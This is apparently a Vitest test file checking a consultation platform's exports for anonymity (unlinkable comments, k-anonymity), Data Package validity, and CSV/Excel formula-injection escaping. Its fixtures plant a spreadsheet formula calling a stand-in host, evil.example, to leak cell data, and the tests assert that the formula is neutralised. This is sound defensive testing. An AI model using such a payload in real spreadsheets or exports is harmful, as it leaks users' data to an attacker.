/**
 * What an export lets an analyst work out about a person, tried as an analyst would, on the demo and
 * on a consultation of edge cases (rare profile combinations, empty tables, Arabic and Chinese text,
 * quotes and line breaks, a formula planted in a comment, small cells):
 * - no code in any export joins to a published comment, whose page names its author (issue 14.1);
 * - every combination of answers in the participants table is shared by at least 5 rows (14.2);
 * - the Data Package validates with the Frictionless library, every row cast to its type (14.9);
 * - a would-be formula is exact in the plain CSV and escaped in the CSV for Excel and the package
 *   (issue 13.15); an XLSX cell holding it is text, never a formula.
 */
import { parse as parseCsv } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { beforeAll, describe, expect, it } from "vitest";
import { comment, priority, profile, userRole, vote } from "~db/schema";
import { seedDemo } from "~db/seed/demo";
import { queryRows } from "~/platform/db.server";
import { getEnv } from "~/platform/env.server";
import { participantKey } from "~/exports/participant-key.server";
import { exportTableNames } from "~/exports/tables.server";
import { DEFAULT_SMALL_CELL_THRESHOLD } from "~/reports/small-cells";
import { loader as fileLoader } from "~/routes/c+/$slug+/_institution+/export_.$file";
import { signUpMember } from "../support/actions";
import { markSecondFactorEnrolled } from "../support/second-factor";
import { createConsultation, createUsers } from "../support/consultation-fixtures";
import { setupTestDatabase } from "../support/database";
import { validateDataPackage } from "../support/frictionless";

const db = setupTestDatabase();
/** The small-cell threshold, which is also the k of k-anonymity (the default: the env is read in tests). */
const K = DEFAULT_SMALL_CELL_THRESHOLD;

const attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")';
const arabic = 'قال "المحلي"، ثم\r\nغادر؛ وكتب:\n«مرحبا»';
const chinese = "我们需要“本地”生产，\n以及更多的疫苗。";

let admin: { cookie: string };
const consultations = {} as Record<"demo" | "edge", { id: number; slug: string }>;

beforeAll(async () => {
  const demo = await seedDemo(db());
  consultations.demo = { id: demo.consultationId, slug: demo.slug };
  const signedUp = await signUpMember("Privacy admin");
  await db().insert(userRole).values({ userId: signedUp.userId, role: "admin" });
  await markSecondFactorEnrolled(db(), signedUp.userId);
  admin = signedUp;

  // The edge cases: a few dozen members, most with a combination of answers nobody else has.
  const edge = await createConsultation(db(), {}, 2);
  consultations.edge = edge;
  await db()
    .update(priority)
    .set({ title: { en: 'A "quoted",\r\ntitle', ar: arabic, zh: chinese } })
    .where(sql`${priority.id} = ${edge.priorityIds[0]!}`);
  const members = await createUsers(db(), 43);
  const countries = ["KE", "NG", "ZA", "EG", "SN", "FR", "CN", "BR", "GH", "ET", "MA"];
  const ages = ["under-18", "18-24", "25-34", "35-44", "45-54", "55-64", "65-plus"] as const;
  const genders = ["woman", "man", "another", "prefer-not-to-say"] as const;
  const groups = ["community-member", "health-worker", "manufacturer", "researcher", "other"] as const;
  await db()
    .insert(profile)
    .values(
      members.map((userId, i) => ({
        userId,
        statsConsent: i < 40,
        country: countries[i % countries.length],
        ageBand: ages[(i * 3) % ages.length],
        gender: genders[(i * 5) % genders.length],
        stakeholderGroup: groups[(i * 7) % groups.length],
        preferredLanguage: ["en", "fr", "ar", "zh", "sw"][i % 5],
        hasDeclaredInterest: i % 9 === 0,
        interestKind: i % 9 === 0 ? ("manufacturer" as const) : null,
      })),
    );
  await db()
    .insert(vote)
    .values(
      members.map((userId, i) => ({
        consultationId: edge.id,
        priorityId: edge.priorityIds[i % 2]!,
        userId,
        value: "agree" as const,
      })),
    );
  await db()
    .insert(comment)
    .values(
      [attack, arabic, chinese, "- a list item", "@someone +1"].map((body, i) => ({
        consultationId: edge.id,
        priorityId: edge.priorityIds[0]!,
        authorId: members[i]!,
        body,
        language: ["en", "ar", "zh", "en", "en"][i]!,
        status: "published" as const,
      })),
    );
});

async function download(which: "demo" | "edge", file: string, query = ""): Promise<Buffer> {
  const { slug } = consultations[which];
  const request = new Request(`http://localhost/c/${slug}/export/${file}${query}`, {
    headers: { cookie: admin.cookie },
  });
  const response = (await fileLoader({ request, params: { slug, file }, context: {} })) as Response;
  expect(response.status, file).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

type Tables = Record<string, Record<string, unknown>[]>;

async function allTables(which: "demo" | "edge"): Promise<Tables> {
  return (JSON.parse((await download(which, "all.json")).toString("utf8")) as { tables: Tables }).tables;
}

describe.each(["demo", "edge"] as const)("the %s consultation's export", (which) => {
  it("has no code that joins a published comment (whose page names its author) to anything else", async () => {
    const tables = await allTables(which);
    expect(tables.comments!.length).toBeGreaterThan(0);
    const codes = new Set<unknown>();
    for (const name of exportTableNames)
      for (const row of tables[name]!) if ("participant" in row) codes.add(row.participant);
    expect(codes.size).toBeGreaterThan(0);
    // The join the issue made: comment → author's code → votes, ballots, profile. No cell of the
    // comments table is any participant code, and no other table holds a comment's number.
    const commentCells = tables.comments!.flatMap((row) => Object.values(row));
    expect(commentCells.filter((cell) => codes.has(cell))).toEqual([]);
    for (const name of exportTableNames.filter((n) => n !== "comments")) {
      const columns = Object.keys(tables[name]![0] ?? {});
      expect(
        columns.filter((column) => column === "comment_id" || column === "parent_id"),
        name,
      ).toEqual([]);
    }
    // Nor does the old pseudonym of any comment's author appear anywhere near the comments.
    const authors = await queryRows<{ author_id: string }>(
      db(),
      sql`select distinct author_id from comment where consultation_id = ${consultations[which].id} and status = 'published'`,
    );
    const text = JSON.stringify(tables.comments);
    for (const { author_id } of authors) {
      expect(text).not.toContain(participantKey(getEnv().AUTH_SECRET, consultations[which].id, author_id));
    }
  });

  it(`describes no one in a group of fewer than ${K}: the smallest equivalence class of the participants table`, async () => {
    const participants = (await allTables(which)).participants!;
    expect(participants.length).toBeGreaterThanOrEqual(K);
    const classes = new Map<string, number>();
    for (const row of participants) {
      const { participant: _code, ...answers } = row;
      const key = JSON.stringify(answers);
      classes.set(key, (classes.get(key) ?? 0) + 1);
    }
    expect(Math.min(...classes.values())).toBeGreaterThanOrEqual(K);
    // Not by withholding everything: some answers still come through.
    expect(
      participants.some(({ participant: _code, ...answers }) => Object.values(answers).some((v) => v !== null)),
    ).toBe(true);
  });

  it("gives a Data Package that the Frictionless library validates, every row cast to its type", async () => {
    const zip = await download(which, "package.zip");
    const { errors, tables } = await validateDataPackage(zip);
    expect(errors).toEqual([]);
    const json = await allTables(which);
    for (const name of exportTableNames) expect(tables[name]?.length, name).toBe(json[name]!.length);
    if (which === "edge") {
      // Empty tables, text in three scripts with quotes and line breaks, withheld counts read as missing.
      expect(tables.ballot_allocations).toEqual([]);
      expect(tables.commitments).toEqual([]);
      const bodies = tables.comments!.map((row) => row.body);
      expect(bodies).toEqual(expect.arrayContaining([arabic, chinese, `'${attack}`, "'- a list item"]));
      expect(tables.priorities!.map((row) => row.title)).toEqual(expect.arrayContaining([arabic, chinese]));
      const counts = tables.participants_by_country!.map((row) => row.participants);
      expect(counts).toContain(null);
      const raw = json.participants_by_country!.map((row) => row.participants);
      expect(raw).toContain(`<${K}`);
    }
  });
});

describe("formula injection (issue 13.15)", () => {
  it("keeps the plain CSV exact, and escapes would-be formulas for Excel and in the Data Package", async () => {
    const rows = (bytes: Buffer, bom: boolean) =>
      parseCsv(bytes, { columns: true, bom, record_delimiter: "\r\n" }) as Record<string, string>[];
    const plain = rows(await download("edge", "comments.csv"), false).map((r) => r.body);
    expect(plain).toEqual(expect.arrayContaining([attack, "- a list item", "@someone +1", arabic]));
    const excel = rows(await download("edge", "comments.csv", "?bom=1"), true).map((r) => r.body);
    expect(excel).toEqual(expect.arrayContaining([`'${attack}`, "'- a list item", "'@someone +1", arabic]));
    expect(excel.filter((body) => /^[=+\-@\t\r]/.test(body!))).toEqual([]);

    const zip = await JSZip.loadAsync(await download("edge", "package.zip"));
    const packaged = rows(await zip.file("data/comments.csv")!.async("nodebuffer"), false).map((r) => r.body);
    expect(packaged).toEqual(excel);
    const descriptor = JSON.parse(await zip.file("datapackage.json")!.async("string")) as { description: string };
    expect(descriptor.description).toContain("leading '");
    expect(descriptor.description).toContain("'withheld'");

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download("edge", "comments.xlsx")) as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.getWorksheet("comments")!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const planted = cells.find((cell) => cell.value === attack)!;
    expect(planted.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
